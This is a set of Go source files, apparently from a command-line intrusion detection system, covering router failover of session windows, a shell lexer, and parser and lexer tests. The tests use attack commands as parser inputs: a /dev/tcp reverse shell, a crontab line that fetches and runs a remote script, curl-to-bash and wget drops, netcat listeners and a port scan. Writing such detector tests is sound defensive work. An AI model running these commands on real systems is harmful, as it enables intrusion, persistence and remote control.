		json.NewEncoder(w).Encode(map[string]any{"reloaded": done})
	})
	mux.HandleFunc("/sessions/export", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Error(w, "POST /sessions/export?users=a,b,c", http.StatusMethodNotAllowed)
			return
		}
		if !rt.Ready() {
			http.Error(w, ErrNoReplicas.Error(), http.StatusServiceUnavailable)
			return
		}
		var users []string
		if q := r.URL.Query().Get("users"); q != "" {
			users = strings.Split(q, ",")
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		if err := rt.ExportShadow(w, users); err != nil {
			rt.cfg.Logf("fleet: shadow export: %v", err)
		}
	})
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "ok")
	})
	mux.HandleFunc("/readyz", func(w http.ResponseWriter, r *http.Request) {
		st := rt.Stats()
		if !rt.Ready() {
			http.Error(w, fmt.Sprintf("no healthy replica (%d configured)", len(st.Replicas)), http.StatusServiceUnavailable)
			return
		}
		line := fmt.Sprintf("ready replicas=%d/%d", st.HealthyReplicas, len(st.Replicas))
		if st.Modality != "" {
			line += " modality=" + st.Modality
		}
		fmt.Fprintln(w, line)
	})
	return mux
}
