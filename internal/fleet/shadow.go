package fleet

import (
	"bytes"
	"io"

	"clmids/internal/stream"
)

// shadowWindow is the router's mirror of one user's session window on
// whatever replica owns them. The router sees every committed verdict, and
// a Verdict carries exactly the fields a checkpoint WindowEntry needs
// (Time, Line, ContextScore) — so by replaying the verdict stream through
// the same idle-gap/trim rules as Detector.begin, the router holds a
// faithful copy of each user's window without ever asking replicas for it.
// When a replica dies mid-session (kill -9 — nothing to export), the
// shadow is serialized through stream.WriteSessionsCheckpoint and imported
// into the failover successor, so an attack chain split across the crash
// still trips its session alarm with byte-identical scores.
//
// Shadows only ever reflect verdicts the router committed to clients:
// events a dead replica half-ingested but never answered for are re-scored
// on the successor, never double-counted.
type shadowWindow struct {
	last    int64
	entries []stream.WindowEntry
}

// applyShadow folds one committed verdict into the user's shadow window,
// mirroring Detector.begin exactly: an event-time gap over IdleTimeout
// closes the window and starts fresh; entries append in arrival order and
// trim to the last MaxSessionLines. Returns the (possibly new) window.
func applyShadow(sw *shadowWindow, v stream.Verdict, cfg stream.Config) *shadowWindow {
	if sw == nil {
		sw = &shadowWindow{}
	}
	if len(sw.entries) > 0 && v.Time-sw.last > cfg.IdleTimeout {
		sw.entries = sw.entries[:0]
	}
	sw.last = v.Time
	sw.entries = append(sw.entries, stream.WindowEntry{
		Time:  v.Time,
		Line:  v.Line,
		Score: v.ContextScore,
	})
	if over := len(sw.entries) - cfg.MaxSessionLines; over > 0 {
		n := copy(sw.entries, sw.entries[over:])
		sw.entries = sw.entries[:n]
	}
	return sw
}

// shadowCheckpoint serializes the named users' shadow windows (skipping
// users with no shadow) as a "clmids-sessions v1" checkpoint suitable for
// POST /sessions/import on the failover target. clear=true writes an
// empty window per user instead — the import-side delete marker that
// scrubs a hedge loser's speculatively ingested state.
func (rt *Router) shadowCheckpoint(users []string, clear bool) (*bytes.Buffer, error) {
	rt.mu.Lock()
	windows := make([]stream.SessionWindow, 0, len(users))
	for _, u := range users {
		if clear {
			windows = append(windows, stream.SessionWindow{User: u})
			continue
		}
		sw, ok := rt.shadows[u]
		if !ok || len(sw.entries) == 0 {
			continue
		}
		ents := make([]stream.WindowEntry, len(sw.entries))
		copy(ents, sw.entries)
		windows = append(windows, stream.SessionWindow{User: u, Last: sw.last, Entries: ents})
	}
	cfg, modality, hw := rt.sessCfg, rt.modality, rt.highWater
	rt.mu.Unlock()

	var buf bytes.Buffer
	if err := stream.WriteSessionsCheckpoint(&buf, cfg, modality, windows, hw); err != nil {
		return nil, err
	}
	return &buf, nil
}

// ExportShadow writes the router's shadow windows for the given users
// (nil = all tracked users) as a checkpoint — the router-side counterpart
// of a replica's /sessions/export, useful for inspecting failover state.
func (rt *Router) ExportShadow(w io.Writer, users []string) error {
	if users == nil {
		rt.mu.Lock()
		users = make([]string, 0, len(rt.shadows))
		for u := range rt.shadows {
			users = append(users, u)
		}
		rt.mu.Unlock()
	}
	buf, err := rt.shadowCheckpoint(users, false)
	if err != nil {
		return err
	}
	_, err = w.Write(buf.Bytes())
	return err
}

// applyVerdicts folds a successful group's verdicts into the shadow map,
// records ownership, advances the high-water mark, and occasionally sweeps
// idle shadows so the map tracks live sessions, not history.
func (rt *Router) applyVerdicts(addr string, verdicts []stream.Verdict) {
	rt.mu.Lock()
	for _, v := range verdicts {
		rt.shadows[v.User] = applyShadow(rt.shadows[v.User], v, rt.sessCfg)
		rt.owners[v.User] = addr
		if v.Time > rt.highWater {
			rt.highWater = v.Time
		}
	}
	// Sweep at most once per idle-timeout of event time: a shadow idle
	// past IdleTimeout can never extend a session again (the next event
	// starts fresh), so dropping it — and its ownership pin — is free.
	if rt.highWater-rt.lastSweep > rt.sessCfg.IdleTimeout && rt.sessCfg.IdleTimeout > 0 {
		rt.lastSweep = rt.highWater
		for u, sw := range rt.shadows {
			if rt.highWater-sw.last > rt.sessCfg.IdleTimeout {
				delete(rt.shadows, u)
				delete(rt.owners, u)
			}
		}
	}
	rt.mu.Unlock()
}
