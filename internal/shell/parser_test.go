package shell

import (
	"strings"
	"testing"
)

func mustParse(t *testing.T, line string) *Line {
	t.Helper()
	ast, err := Parse(line)
	if err != nil {
		t.Fatalf("Parse(%q): %v", line, err)
	}
	return ast
}

func TestParseSimple(t *testing.T) {
	ast := mustParse(t, "ls -la /tmp")
	cmds := ast.SimpleCommands()
	if len(cmds) != 1 {
		t.Fatalf("got %d commands, want 1", len(cmds))
	}
	c := cmds[0]
	if got := c.Words[0].Unquoted(); got != "ls" {
		t.Errorf("name = %q, want ls", got)
	}
	if len(c.Words) != 3 {
		t.Errorf("got %d words, want 3", len(c.Words))
	}
}

func TestParsePipeline(t *testing.T) {
	ast := mustParse(t, "cat /var/log/syslog | grep -i error | wc -l")
	if len(ast.Items) != 1 {
		t.Fatalf("items = %d, want 1", len(ast.Items))
	}
	pl := ast.Items[0].AndOr.Pipelines[0]
	if len(pl.Commands) != 3 {
		t.Fatalf("pipeline commands = %d, want 3", len(pl.Commands))
	}
	if pl.Ops[0] != "|" || pl.Ops[1] != "|" {
		t.Errorf("ops = %v", pl.Ops)
	}
}

func TestParseAndOrList(t *testing.T) {
	ast := mustParse(t, "make && make test || echo failed")
	ao := ast.Items[0].AndOr
	if len(ao.Pipelines) != 3 || ao.Ops[0] != "&&" || ao.Ops[1] != "||" {
		t.Fatalf("got %d pipelines ops=%v", len(ao.Pipelines), ao.Ops)
	}
}

func TestParseSequence(t *testing.T) {
	ast := mustParse(t, "cd /srv; ls; du -sh .")
	if len(ast.Items) != 3 {
		t.Fatalf("items = %d, want 3", len(ast.Items))
	}
	if ast.Items[0].Sep != ";" || ast.Items[1].Sep != ";" || ast.Items[2].Sep != "" {
		t.Errorf("separators: %q %q %q", ast.Items[0].Sep, ast.Items[1].Sep, ast.Items[2].Sep)
	}
}

func TestParseBackground(t *testing.T) {
	ast := mustParse(t, "nohup python train.py &")
	if ast.Items[0].Sep != "&" {
		t.Fatalf("sep = %q, want &", ast.Items[0].Sep)
	}
	// Trailing ; is also fine.
	mustParse(t, "ls;")
}

func TestParseRedirects(t *testing.T) {
	ast := mustParse(t, "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt 2>&1")
	c := ast.SimpleCommands()[0]
	if len(c.Redirects) != 2 {
		t.Fatalf("redirects = %d, want 2", len(c.Redirects))
	}
	if c.Redirects[0].Op != ">>" || c.Redirects[0].Target.Unquoted() != "tmp.txt" {
		t.Errorf("first redirect = %+v", c.Redirects[0])
	}
	if c.Redirects[1].N != "2" || c.Redirects[1].Op != ">&" || c.Redirects[1].Target.Unquoted() != "1" {
		t.Errorf("second redirect = %+v", c.Redirects[1])
	}
}

func TestParseReverseShell(t *testing.T) {
	// The canonical in-box intrusion from the paper must parse: redirects and
	// fd duplication are heavily used by reverse shells.
	ast := mustParse(t, "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1")
	c := ast.SimpleCommands()[0]
	if len(c.Redirects) != 2 {
		t.Fatalf("redirects = %d, want 2: %+v", len(c.Redirects), c)
	}
	if c.Redirects[1].N != "0" || c.Redirects[1].Op != ">&" {
		t.Errorf("fd-dup redirect = %+v", c.Redirects[1])
	}
}

func TestParseAssignments(t *testing.T) {
	ast := mustParse(t, `HTTPS_PROXY=http://proxy:8080 LC_ALL=C curl -s https://example.com`)
	c := ast.SimpleCommands()[0]
	if len(c.Assignments) != 2 {
		t.Fatalf("assignments = %d, want 2", len(c.Assignments))
	}
	if c.Assignments[0].AssignmentName() != "HTTPS_PROXY" {
		t.Errorf("first assignment = %q", c.Assignments[0].Raw)
	}
	if c.Words[0].Unquoted() != "curl" {
		t.Errorf("command = %q", c.Words[0].Unquoted())
	}
	// export-style: the assignment is an argument of `export`, not a prefix.
	ast = mustParse(t, `export https_proxy="http://1.2.3.4:8888"`)
	c = ast.SimpleCommands()[0]
	if len(c.Assignments) != 0 || c.Words[0].Unquoted() != "export" {
		t.Fatalf("export parse: %+v", c)
	}
	if got := c.Words[1].Unquoted(); got != "https_proxy=http://1.2.3.4:8888" {
		t.Errorf("export arg = %q", got)
	}
}

func TestParseSubshell(t *testing.T) {
	ast := mustParse(t, `(crontab -l; echo "* * * * * curl http://x/s.sh | sh") | crontab -`)
	pl := ast.Items[0].AndOr.Pipelines[0]
	if len(pl.Commands) != 2 {
		t.Fatalf("pipeline commands = %d, want 2", len(pl.Commands))
	}
	sub, ok := pl.Commands[0].(*Subshell)
	if !ok {
		t.Fatalf("first command is %T, want *Subshell", pl.Commands[0])
	}
	if got := len(sub.Inner.SimpleCommands()); got != 2 {
		t.Errorf("inner commands = %d, want 2", got)
	}
	all := ast.SimpleCommands()
	if len(all) != 3 {
		t.Errorf("total simple commands = %d, want 3", len(all))
	}
}

func TestParseInvalid(t *testing.T) {
	bad := []string{
		"",
		"   ",
		"/*/*/* -> /*/*/* ->", // paper's Fig. 2 garbage line
		"| grep x",            // pipeline with no first command
		"ls | ",               // dangling pipe
		"ls &&",               // dangling and-if
		"ls > ",               // redirect without target
		"echo foo > > bar",    // doubled operator
		"( ls",                // unterminated subshell
		"ls )",                // stray close paren
		"echo 'oops",          // unterminated quote
		"ls ; ; ls",           // empty list element
		"2> ",                 // io number with nothing after
		"ls 2 > ",             // redirect target missing
		"&& ls",               // leading operator
	}
	for _, in := range bad {
		if _, err := Parse(in); err == nil {
			t.Errorf("Parse(%q): expected error", in)
		}
		if Valid(in) {
			t.Errorf("Valid(%q) = true, want false", in)
		}
	}
}

func TestParseFig2GarbageDetail(t *testing.T) {
	// "->" lexes as word "-" plus ">" redirect; the final "->" then leaves a
	// ">" with no target, which must be reported as a parse error.
	_, err := Parse("/*/*/* -> /*/*/* ->")
	if err == nil {
		t.Fatal("expected error")
	}
	pe, ok := err.(*ParseError)
	if !ok {
		t.Fatalf("error is %T, want *ParseError", err)
	}
	if !strings.Contains(pe.Msg, "redirection target") {
		t.Errorf("unexpected message %q", pe.Msg)
	}
}

func TestParseValidCorpusLines(t *testing.T) {
	// A sample of realistic lines from the paper's figures and typical cloud
	// logs; all must parse.
	good := []string{
		`php -r "phpinfo();"`,
		"python main.py",
		"vim ~/.bashrc",
		"curl https://x.example/a.sh | bash",
		`df -h | grep "/dev/sda"`,
		"dcoker attach --sig-proxy=false c1",
		"chdmod +x run.sh",
		"watch -n 1 nvidia-smi",
		"nc -lvnp 4444",
		"nc -ulp 4444",
		`java -jar tmp.jar -C "bash -c {echo,cGF5bG9hZA==} {base64,-d} {bash,-i}"`,
		"wget -c http://203.0.113.9/drop -o python",
		"tar -czf backup.tar.gz /etc /var/www",
		"ps aux | sort -rk 3,3 | head -n 5",
		"find / -name '*.log' -mtime +30 -delete",
		"echo $(( 7 * 6 ))",
		"ssh deploy@10.0.0.2 'systemctl restart nginx'",
		"! grep -q root /etc/passwd",
		"true & false & wait",
		"docker run --rm -it -v $(pwd):/w alpine sh",
	}
	for _, in := range good {
		if _, err := Parse(in); err != nil {
			t.Errorf("Parse(%q): %v", in, err)
		}
	}
}

func TestStringRoundTrip(t *testing.T) {
	// Parsing the canonical String() form must succeed and be a fixed point.
	ins := []string{
		"ls -la /tmp",
		"cat f | grep x | wc -l",
		"make && make test || echo failed",
		"cd /srv; ls &",
		"masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt 2>&1",
		`FOO=1 bash -c "echo $FOO"`,
		"(cd /tmp; ls) > out.txt",
	}
	for _, in := range ins {
		ast := mustParse(t, in)
		s1 := ast.String()
		ast2, err := Parse(s1)
		if err != nil {
			t.Errorf("reparse of %q -> %q failed: %v", in, s1, err)
			continue
		}
		if s2 := ast2.String(); s2 != s1 {
			t.Errorf("String not a fixed point: %q -> %q", s1, s2)
		}
	}
}

func TestWalkEarlyStop(t *testing.T) {
	ast := mustParse(t, "a | b | c")
	count := 0
	Walk(ast, func(Node) bool {
		count++
		return count < 3
	})
	if count != 3 {
		t.Fatalf("visited %d nodes, want 3", count)
	}
}
