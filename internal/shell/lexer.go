package shell

import (
	"fmt"
	"strings"
)

// ParseError describes a syntax error in a command line. Lines that fail to
// parse are exactly the lines the pre-processing stage removes (Fig. 2).
type ParseError struct {
	// Pos is the byte offset at which the error was detected.
	Pos int
	// Msg describes the problem.
	Msg string
	// Input is the full line being parsed.
	Input string
}

// Error implements the error interface.
func (e *ParseError) Error() string {
	return fmt.Sprintf("shell: parse error at offset %d: %s", e.Pos, e.Msg)
}

// lexer turns a single command line into a stream of tokens.
type lexer struct {
	src string
	pos int
}

func newLexer(src string) *lexer {
	return &lexer{src: src}
}

func (l *lexer) errf(pos int, format string, args ...any) *ParseError {
	return &ParseError{Pos: pos, Msg: fmt.Sprintf(format, args...), Input: l.src}
}

func (l *lexer) peek() byte {
	if l.pos >= len(l.src) {
		return 0
	}
	return l.src[l.pos]
}

func (l *lexer) peekAt(off int) byte {
	if l.pos+off >= len(l.src) {
		return 0
	}
	return l.src[l.pos+off]
}

func isBlank(c byte) bool { return c == ' ' || c == '\t' || c == '\r' || c == '\n' }

// isMeta reports whether c terminates a word when unquoted.
func isMeta(c byte) bool {
	switch c {
	case ' ', '\t', '\r', '\n', '|', '&', ';', '(', ')', '<', '>', 0:
		return true
	}
	return false
}

// next returns the next token. Comments introduced by an unquoted '#' at the
// start of a word extend to the end of the line.
func (l *lexer) next() (Token, error) {
	for l.pos < len(l.src) && isBlank(l.src[l.pos]) {
		l.pos++
	}
	start := l.pos
	if l.pos >= len(l.src) {
		return Token{Kind: TokenEOF, Pos: start}, nil
	}
	c := l.src[l.pos]

	// Comment: '#' at the start of a word position consumes the rest.
	if c == '#' {
		l.pos = len(l.src)
		return Token{Kind: TokenEOF, Pos: start}, nil
	}

	// IO number: digits immediately followed by '<' or '>'.
	if c >= '0' && c <= '9' {
		j := l.pos
		for j < len(l.src) && l.src[j] >= '0' && l.src[j] <= '9' {
			j++
		}
		if j < len(l.src) && (l.src[j] == '<' || l.src[j] == '>') {
			text := l.src[l.pos:j]
			l.pos = j
			return Token{Kind: TokenIONumber, Text: text, Pos: start}, nil
		}
	}

	switch c {
	case ';':
		l.pos++
		// ";;" only appears in case statements, which we do not model;
		// treat it as two separators.
		return Token{Kind: TokenSemi, Text: ";", Pos: start}, nil
	case '&':
		if l.peekAt(1) == '&' {
			l.pos += 2
			return Token{Kind: TokenAndIf, Text: "&&", Pos: start}, nil
		}
		if l.peekAt(1) == '>' {
			if l.peekAt(2) == '>' {
				l.pos += 3
				return Token{Kind: TokenAmpDGreat, Text: "&>>", Pos: start}, nil
			}
			l.pos += 2
			return Token{Kind: TokenAmpGreat, Text: "&>", Pos: start}, nil
		}
		l.pos++
		return Token{Kind: TokenAmp, Text: "&", Pos: start}, nil
	case '|':
		if l.peekAt(1) == '|' {
			l.pos += 2
			return Token{Kind: TokenOrIf, Text: "||", Pos: start}, nil
		}
		if l.peekAt(1) == '&' {
			l.pos += 2
			return Token{Kind: TokenPipeAmp, Text: "|&", Pos: start}, nil
		}
		l.pos++
		return Token{Kind: TokenPipe, Text: "|", Pos: start}, nil
	case '(':
		l.pos++
		return Token{Kind: TokenLParen, Text: "(", Pos: start}, nil
	case ')':
		l.pos++
		return Token{Kind: TokenRParen, Text: ")", Pos: start}, nil
	case '<':
		switch l.peekAt(1) {
		case '<':
			if l.peekAt(2) == '-' {
				l.pos += 3
				return Token{Kind: TokenDLessDash, Text: "<<-", Pos: start}, nil
			}
			l.pos += 2
			return Token{Kind: TokenDLess, Text: "<<", Pos: start}, nil
		case '&':
			l.pos += 2
			return Token{Kind: TokenLessAnd, Text: "<&", Pos: start}, nil
		case '>':
			l.pos += 2
			return Token{Kind: TokenLessGreat, Text: "<>", Pos: start}, nil
		}
		l.pos++
		return Token{Kind: TokenLess, Text: "<", Pos: start}, nil
	case '>':
		switch l.peekAt(1) {
		case '>':
			l.pos += 2
			return Token{Kind: TokenDGreat, Text: ">>", Pos: start}, nil
		case '&':
			l.pos += 2
			return Token{Kind: TokenGreatAnd, Text: ">&", Pos: start}, nil
		case '|':
			l.pos += 2
			return Token{Kind: TokenClobber, Text: ">|", Pos: start}, nil
		}
		l.pos++
		return Token{Kind: TokenGreat, Text: ">", Pos: start}, nil
	}

	return l.lexWord()
}

// lexWord scans a word, handling quoting and expansions.
func (l *lexer) lexWord() (Token, error) {
	start := l.pos
	var parts []WordPart
	var lit strings.Builder
	flushLit := func() {
		if lit.Len() > 0 {
			parts = append(parts, WordPart{Kind: PartLiteral, Raw: lit.String(), Inner: lit.String()})
			lit.Reset()
		}
	}
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		if isMeta(c) {
			break
		}
		switch c {
		case '\'':
			flushLit()
			p, err := l.lexSingleQuoted()
			if err != nil {
				return Token{}, err
			}
			parts = append(parts, p)
		case '"':
			flushLit()
			p, err := l.lexDoubleQuoted()
			if err != nil {
				return Token{}, err
			}
			parts = append(parts, p)
		case '\\':
			flushLit()
			if l.pos+1 >= len(l.src) {
				return Token{}, l.errf(l.pos, "backslash at end of line")
			}
			esc := l.src[l.pos+1]
			parts = append(parts, WordPart{Kind: PartEscape, Raw: l.src[l.pos : l.pos+2], Inner: string(esc)})
			l.pos += 2
		case '$':
			flushLit()
			p, err := l.lexDollar()
			if err != nil {
				return Token{}, err
			}
			parts = append(parts, p)
		case '`':
			flushLit()
			p, err := l.lexBackquote()
			if err != nil {
				return Token{}, err
			}
			parts = append(parts, p)
		default:
			lit.WriteByte(c)
			l.pos++
		}
	}
	flushLit()
	if len(parts) == 0 {
		return Token{}, l.errf(start, "empty word")
	}
	raw := l.src[start:l.pos]
	w := &Word{Raw: raw, Parts: parts, Pos: start}
	return Token{Kind: TokenWord, Text: raw, Word: w, Pos: start}, nil
}

func (l *lexer) lexSingleQuoted() (WordPart, error) {
	start := l.pos
	l.pos++ // opening quote
	for l.pos < len(l.src) {
		if l.src[l.pos] == '\'' {
			l.pos++
			raw := l.src[start:l.pos]
			return WordPart{Kind: PartSingleQuoted, Raw: raw, Inner: raw[1 : len(raw)-1]}, nil
		}
		l.pos++
	}
	return WordPart{}, l.errf(start, "unterminated single-quoted string")
}

func (l *lexer) lexDoubleQuoted() (WordPart, error) {
	start := l.pos
	l.pos++ // opening quote
	for l.pos < len(l.src) {
		switch l.src[l.pos] {
		case '"':
			l.pos++
			raw := l.src[start:l.pos]
			return WordPart{Kind: PartDoubleQuoted, Raw: raw, Inner: raw[1 : len(raw)-1]}, nil
		case '\\':
			if l.pos+1 >= len(l.src) {
				return WordPart{}, l.errf(l.pos, "backslash at end of line inside double quotes")
			}
			l.pos += 2
		case '$':
			// Expansions inside double quotes must still be well formed.
			if l.peekAt(1) == '(' || (l.peekAt(1) == '{') {
				if _, err := l.lexDollar(); err != nil {
					return WordPart{}, err
				}
			} else {
				l.pos++
			}
		case '`':
			if _, err := l.lexBackquote(); err != nil {
				return WordPart{}, err
			}
		default:
			l.pos++
		}
	}
	return WordPart{}, l.errf(start, "unterminated double-quoted string")
}

// lexDollar scans $NAME, ${...}, $(...), $((...)), or a lone '$'.
func (l *lexer) lexDollar() (WordPart, error) {
	start := l.pos
	l.pos++ // '$'
	switch l.peek() {
	case '(':
		if l.peekAt(1) == '(' {
			// Arithmetic expansion $(( ... )).
			l.pos += 2
			depth := 1
			inner := l.pos
			for l.pos < len(l.src) {
				switch l.src[l.pos] {
				case '(':
					depth++
				case ')':
					depth--
					if depth == 0 {
						if l.peekAt(1) != ')' {
							return WordPart{}, l.errf(start, "unterminated arithmetic expansion")
						}
						raw := l.src[start : l.pos+2]
						in := l.src[inner:l.pos]
						l.pos += 2
						return WordPart{Kind: PartArith, Raw: raw, Inner: in}, nil
					}
				}
				l.pos++
			}
			return WordPart{}, l.errf(start, "unterminated arithmetic expansion")
		}
		// Command substitution $( ... ), possibly nested, with quotes.
		l.pos++
		inner := l.pos
		depth := 1
		for l.pos < len(l.src) {
			switch l.src[l.pos] {
			case '(':
				depth++
				l.pos++
			case ')':
				depth--
				if depth == 0 {
					raw := l.src[start : l.pos+1]
					in := l.src[inner:l.pos]
					l.pos++
					return WordPart{Kind: PartCmdSub, Raw: raw, Inner: in}, nil
				}
				l.pos++
			case '\'':
				if _, err := l.lexSingleQuoted(); err != nil {
					return WordPart{}, err
				}
			case '"':
				if _, err := l.lexDoubleQuoted(); err != nil {
					return WordPart{}, err
				}
			case '\\':
				if l.pos+1 >= len(l.src) {
					return WordPart{}, l.errf(l.pos, "backslash at end of line")
				}
				l.pos += 2
			default:
				l.pos++
			}
		}
		return WordPart{}, l.errf(start, "unterminated command substitution")
	case '{':
		l.pos++
		inner := l.pos
		depth := 1
		for l.pos < len(l.src) {
			switch l.src[l.pos] {
			case '{':
				depth++
			case '}':
				depth--
				if depth == 0 {
					raw := l.src[start : l.pos+1]
					in := l.src[inner:l.pos]
					l.pos++
					return WordPart{Kind: PartVar, Raw: raw, Inner: in}, nil
				}
			}
			l.pos++
		}
		return WordPart{}, l.errf(start, "unterminated parameter expansion")
	default:
		// $NAME, $1, $?, $$, $!, $@, $*, $#, $-, or a literal '$'.
		j := l.pos
		if j < len(l.src) {
			switch l.src[j] {
			case '?', '$', '!', '@', '*', '#', '-':
				l.pos = j + 1
				raw := l.src[start:l.pos]
				return WordPart{Kind: PartVar, Raw: raw, Inner: raw[1:]}, nil
			}
		}
		for j < len(l.src) && isIdentChar(l.src[j], j == l.pos) {
			j++
		}
		if j == l.pos {
			// A lone '$' is a literal character.
			return WordPart{Kind: PartLiteral, Raw: "$", Inner: "$"}, nil
		}
		raw := l.src[start:j]
		l.pos = j
		return WordPart{Kind: PartVar, Raw: raw, Inner: raw[1:]}, nil
	}
}

func (l *lexer) lexBackquote() (WordPart, error) {
	start := l.pos
	l.pos++ // opening backquote
	for l.pos < len(l.src) {
		switch l.src[l.pos] {
		case '`':
			raw := l.src[start : l.pos+1]
			in := raw[1 : len(raw)-1]
			l.pos++
			return WordPart{Kind: PartCmdSub, Raw: raw, Inner: in}, nil
		case '\\':
			if l.pos+1 >= len(l.src) {
				return WordPart{}, l.errf(l.pos, "backslash at end of line")
			}
			l.pos += 2
		default:
			l.pos++
		}
	}
	return WordPart{}, l.errf(start, "unterminated backquote substitution")
}

// Lex tokenizes a full command line. It is primarily useful for tests and
// diagnostic tools; Parse is the main entry point.
func Lex(line string) ([]Token, error) {
	l := newLexer(line)
	var toks []Token
	for {
		t, err := l.next()
		if err != nil {
			return nil, err
		}
		toks = append(toks, t)
		if t.Kind == TokenEOF {
			return toks, nil
		}
	}
}
