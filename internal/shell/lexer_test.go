package shell

import (
	"strings"
	"testing"
)

func kinds(toks []Token) []TokenKind {
	out := make([]TokenKind, 0, len(toks))
	for _, t := range toks {
		out = append(out, t.Kind)
	}
	return out
}

func TestLexOperators(t *testing.T) {
	tests := []struct {
		in   string
		want []TokenKind
	}{
		{"a | b", []TokenKind{TokenWord, TokenPipe, TokenWord, TokenEOF}},
		{"a || b", []TokenKind{TokenWord, TokenOrIf, TokenWord, TokenEOF}},
		{"a |& b", []TokenKind{TokenWord, TokenPipeAmp, TokenWord, TokenEOF}},
		{"a && b", []TokenKind{TokenWord, TokenAndIf, TokenWord, TokenEOF}},
		{"a & b", []TokenKind{TokenWord, TokenAmp, TokenWord, TokenEOF}},
		{"a ; b", []TokenKind{TokenWord, TokenSemi, TokenWord, TokenEOF}},
		{"a > f", []TokenKind{TokenWord, TokenGreat, TokenWord, TokenEOF}},
		{"a >> f", []TokenKind{TokenWord, TokenDGreat, TokenWord, TokenEOF}},
		{"a < f", []TokenKind{TokenWord, TokenLess, TokenWord, TokenEOF}},
		{"a << f", []TokenKind{TokenWord, TokenDLess, TokenWord, TokenEOF}},
		{"a <<- f", []TokenKind{TokenWord, TokenDLessDash, TokenWord, TokenEOF}},
		{"a <& f", []TokenKind{TokenWord, TokenLessAnd, TokenWord, TokenEOF}},
		{"a >& f", []TokenKind{TokenWord, TokenGreatAnd, TokenWord, TokenEOF}},
		{"a <> f", []TokenKind{TokenWord, TokenLessGreat, TokenWord, TokenEOF}},
		{"a >| f", []TokenKind{TokenWord, TokenClobber, TokenWord, TokenEOF}},
		{"a &> f", []TokenKind{TokenWord, TokenAmpGreat, TokenWord, TokenEOF}},
		{"a &>> f", []TokenKind{TokenWord, TokenAmpDGreat, TokenWord, TokenEOF}},
		{"(a)", []TokenKind{TokenLParen, TokenWord, TokenRParen, TokenEOF}},
		{"a 2> f", []TokenKind{TokenWord, TokenIONumber, TokenGreat, TokenWord, TokenEOF}},
		{"a 10>&1", []TokenKind{TokenWord, TokenIONumber, TokenGreatAnd, TokenWord, TokenEOF}},
	}
	for _, tc := range tests {
		toks, err := Lex(tc.in)
		if err != nil {
			t.Errorf("Lex(%q) error: %v", tc.in, err)
			continue
		}
		got := kinds(toks)
		if len(got) != len(tc.want) {
			t.Errorf("Lex(%q) kinds = %v, want %v", tc.in, got, tc.want)
			continue
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Errorf("Lex(%q) kinds = %v, want %v", tc.in, got, tc.want)
				break
			}
		}
	}
}

func TestLexIONumberVsWord(t *testing.T) {
	// Digits not followed by a redirection operator are an ordinary word.
	toks, err := Lex("sleep 10")
	if err != nil {
		t.Fatalf("Lex: %v", err)
	}
	if toks[1].Kind != TokenWord || toks[1].Text != "10" {
		t.Fatalf("got %v, want word 10", toks[1])
	}
}

func TestLexQuoting(t *testing.T) {
	tests := []struct {
		in       string
		unquoted string
	}{
		{`echo 'hello world'`, "hello world"},
		{`echo "hello world"`, "hello world"},
		{`echo hel'lo wo'rld`, "hello world"},
		{`echo hel\ lo`, "hel lo"},
		{`echo "a\"b"`, `a\"b`},
		{`echo 'a"b'`, `a"b`},
	}
	for _, tc := range tests {
		toks, err := Lex(tc.in)
		if err != nil {
			t.Errorf("Lex(%q) error: %v", tc.in, err)
			continue
		}
		if len(toks) < 3 {
			t.Errorf("Lex(%q) produced %d tokens", tc.in, len(toks))
			continue
		}
		got := toks[1].Word.Unquoted()
		if got != tc.unquoted {
			t.Errorf("Lex(%q) unquoted = %q, want %q", tc.in, got, tc.unquoted)
		}
	}
}

func TestLexExpansions(t *testing.T) {
	tests := []struct {
		in   string
		kind PartKind
		raw  string
	}{
		{`echo $HOME`, PartVar, "$HOME"},
		{`echo ${PATH}`, PartVar, "${PATH}"},
		{`echo $(date)`, PartCmdSub, "$(date)"},
		{`echo $(ls $(pwd))`, PartCmdSub, "$(ls $(pwd))"},
		{"echo `date`", PartCmdSub, "`date`"},
		{`echo $((1+2))`, PartArith, "$((1+2))"},
		{`echo $?`, PartVar, "$?"},
		{`echo $$`, PartVar, "$$"},
	}
	for _, tc := range tests {
		toks, err := Lex(tc.in)
		if err != nil {
			t.Errorf("Lex(%q) error: %v", tc.in, err)
			continue
		}
		w := toks[1].Word
		if len(w.Parts) == 0 {
			t.Errorf("Lex(%q): word has no parts", tc.in)
			continue
		}
		p := w.Parts[0]
		if p.Kind != tc.kind || p.Raw != tc.raw {
			t.Errorf("Lex(%q) part = %v %q, want %v %q", tc.in, p.Kind, p.Raw, tc.kind, tc.raw)
		}
		if !w.HasExpansion() {
			t.Errorf("Lex(%q): HasExpansion = false", tc.in)
		}
	}
}

func TestLexErrors(t *testing.T) {
	bad := []string{
		`echo 'unterminated`,
		`echo "unterminated`,
		`echo $(unterminated`,
		`echo ${unterminated`,
		"echo `unterminated",
		`echo $((1+2)`,
		`echo trailing\`,
	}
	for _, in := range bad {
		if _, err := Lex(in); err == nil {
			t.Errorf("Lex(%q): expected error, got none", in)
		} else if pe, ok := err.(*ParseError); !ok {
			t.Errorf("Lex(%q): error is %T, want *ParseError", in, err)
		} else if pe.Input != in {
			t.Errorf("Lex(%q): ParseError.Input = %q", in, pe.Input)
		}
	}
}

func TestLexComment(t *testing.T) {
	toks, err := Lex("ls -la # list files")
	if err != nil {
		t.Fatalf("Lex: %v", err)
	}
	if len(toks) != 3 { // ls, -la, EOF
		t.Fatalf("got %d tokens %v, want 3", len(toks), toks)
	}
	// '#' inside a word is not a comment.
	toks, err = Lex("echo a#b")
	if err != nil {
		t.Fatalf("Lex: %v", err)
	}
	if toks[1].Text != "a#b" {
		t.Fatalf("got %q, want a#b", toks[1].Text)
	}
}

func TestWordRawRoundTrip(t *testing.T) {
	// Concatenating part Raws must reproduce the word Raw exactly.
	ins := []string{
		`echo pre'sq'"dq"$V${X}$(c)post`,
		`curl -fsSL "https://get.example.com/$(uname -s)/install.sh"`,
	}
	for _, in := range ins {
		toks, err := Lex(in)
		if err != nil {
			t.Fatalf("Lex(%q): %v", in, err)
		}
		for _, tok := range toks {
